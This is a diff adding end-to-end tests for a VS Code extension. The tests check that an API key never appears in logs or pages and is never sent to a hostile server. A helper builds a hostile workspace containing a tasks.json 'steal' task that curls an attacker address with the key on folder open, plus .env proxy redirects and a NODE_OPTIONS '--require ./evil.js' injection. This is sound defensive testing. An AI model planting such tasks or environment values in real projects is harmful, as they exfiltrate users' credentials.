@@ -1,0 +1,155 @@
+import assert from "node:assert/strict";
+import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
+import os from "node:os";
+import path from "node:path";
+import { answer, SampleBackend } from "../support/sampleBackend";
+import { contentsOf, filesBelow, keepMessages, tracesIn } from "../support/traces";
+import { Workbench } from "../support/workbench";
+
+/** With characters that each encoding spells in its own way. */
+const key = "sk_live+7f3a/9Zq=XYZ~42";
+
+async function connect(workbench: Workbench, backend: SampleBackend): Promise<void> {
+  const { quickInput } = workbench;
+  await workbench.runCommand("Company Feed: Connect…");
+  await quickInput.answer("Base URL", backend.baseUrl);
+  await quickInput.answer("API key", backend.key);
+  await quickInput.answer("Organization ID", "");
+  await quickInput.answer("A name for this connection", "Acme");
+  await workbench.statusBarItem("Acme").waitFor();
+}
+
+describe("the key", () => {
+  it("is nowhere to be found after a run full of errors, one of which echoes it", async () => {
+    const backend = await SampleBackend.start(key);
+    const workbench = await Workbench.open({
+      prepare: keepMessages,
+      settings: { "companyFeed.collections.pageSize": 10 },
+    });
+    try {
+      const { page, quickInput } = workbench;
+      await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+      await connect(workbench, backend);
+      await workbench.tree("Collections").getByRole("treeitem").first().waitFor();
+      await workbench.runCommand("Company Feed: Open Event Feed");
+      const frame = await workbench.feedFrame();
+      await frame.locator("[data-event-id]").first().waitFor();
+
+      for (const [status, words] of [
+        [401, "Unknown key"],
+        [403, "Not for you"],
+        [400, "Bad request by"],
+      ] as const) {
+        backend.intercept = () =>
+          answer(status, {
+            message: `${words}: ${key} ${encodeURIComponent(key)} ${Buffer.from(key).toString("base64")}`,
+          });
+        await workbench.runCommand("Company Feed: Refresh Event Feed");
+        await frame.getByText(words).first().waitFor();
+        await workbench.runCommand("Company Feed: Refresh Collections");
+        await workbench.tree("Collections").getByRole("treeitem").filter({ hasText: words }).waitFor();
+      }
+      await workbench.runCommand("Company Feed: Test Connection");
+      await page.locator(".editor-instance .view-lines").filter({ hasText: "What is in the way" }).waitFor();
+      backend.intercept = undefined;
+      await workbench.runCommand("Company Feed: Copy Feed Request as cURL");
+      await page.waitForFunction(async () => (await navigator.clipboard.readText()).includes("$API_KEY"));
+      await workbench.runCommand("Company Feed: Set API Key…");
+      await quickInput.shown("API key of Acme");
+      await quickInput.type(`${key}typo`);
+      await quickInput.cancel();
+      // VS Code's own box keeps what was typed into it, out of sight, until it is used again.
+      await page.keyboard.press("F1");
+      await quickInput.cancel();
+
+      const seen = new Map([...(await contentsOf(page)), ...(await filesBelow(workbench.server.home))]);
+      const log = [...seen].find(([name]) => name.endsWith("Company Feed.log"));
+      assert.ok(log?.[1].includes("401"), "the log was looked at");
+      assert.ok(
+        [...seen].some(([name, text]) => name.startsWith("frame") && text.includes("Bad request by")),
+        "the page was looked at",
+      );
+      assert.ok([...seen].some(([name]) => name.endsWith("settings.json")));
+      assert.deepEqual(tracesIn(key, seen), []);
+    } finally {
+      backend.stop();
+      await workbench.close();
+    }
+  });
+
+  for (const trusted of [true, false]) {
+    it(`goes where the person sent it, whatever a workspace says (${trusted ? "trusted" : "not trusted"})`, async () => {
+      const backend = await SampleBackend.start(key);
+      const thief = await SampleBackend.start("anything");
+      const folder = await hostileFolder(thief.baseUrl);
+      const workbench = await Workbench.open({
+        folder,
+        workspaceTrust: !trusted,
+        settings: {
+          "security.workspace.trust.startupPrompt": "never",
+          "security.workspace.trust.banner": "never",
+        },
+      });
+      try {
+        await connect(workbench, backend);
+        await workbench.tree("Collections").getByRole("treeitem").first().waitFor();
+        await workbench.runCommand("Company Feed: Open Event Feed");
+        const frame = await workbench.feedFrame();
+        await frame.locator("[data-event-id]").first().waitFor();
+        await workbench.runCommand("Company Feed: Switch Connection…");
+        await workbench.quickInput.shown("Switch connection");
+        const offered = await workbench.quickInput.items();
+        assert.ok(offered.some((label) => label.includes("Acme")));
+        assert.ok(!offered.some((label) => label.includes("Thief")), offered.join());
+        await workbench.quickInput.cancel();
+        await workbench.runCommand("Company Feed: Load Older Events");
+        await workbench.runCommand("Company Feed: Refresh Collections");
+        await workbench.runCommand("Company Feed: Test Connection");
+        await workbench.page
+          .locator(".editor-instance .view-lines")
+          .filter({ hasText: "Everything works." })
+          .waitFor();
+        assert.deepEqual(thief.requests, []);
+        assert.ok(backend.requests.every(({ headers }) => headers["authorization"] === `Bearer ${key}`));
+        assert.ok(backend.requests.some(({ target }) => target.includes("/datasets/companydata/feed")));
+      } finally {
+        backend.stop();
+        thief.stop();
+        await workbench.close();
+      }
+    });
+  }
+});
+
+/** A folder that tries to have the key sent elsewhere: in settings, in an environment file and in tasks. */
+async function hostileFolder(address: string): Promise<string> {
+  const folder = await mkdtemp(path.join(os.tmpdir(), "hostile-"));
+  await mkdir(path.join(folder, ".vscode"));
+  const thief = { name: "Thief", baseUrl: address };
+  const settings = {
+    "companyFeed.connections": [{ name: "Acme", baseUrl: address }, thief],
+    "companyFeed.feed.typesFormat": "repeat",
+    "companyFeed.baseUrl": address,
+    "companyFeed.dataset": "stolen",
+  };
+  const environment = ["BASE_URL", "COMPANY_FEED_BASE_URL", "HTTP_PROXY", "HTTPS_PROXY", "NODE_OPTIONS"]
+    .map((name) => `${name}=${name === "NODE_OPTIONS" ? "--require ./evil.js" : address}`)
+    .join("\n");
+  const tasks = {
+    version: "2.0.0",
+    tasks: [
+      {
+        label: "steal",
+        type: "shell",
+        command: `curl ${address}/$\{command:companyFeed.copyFeedRequest}`,
+        runOptions: { runOn: "folderOpen" },
+      },
+    ],
+  };
+  await Promise.all([
+    writeFile(path.join(folder, ".vscode/settings.json"), JSON.stringify(settings)),
+    writeFile(path.join(folder, ".vscode/tasks.json"), JSON.stringify(tasks)),
+    writeFile(path.join(folder, ".env"), environment),
+  ]);
+  return folder;
+}
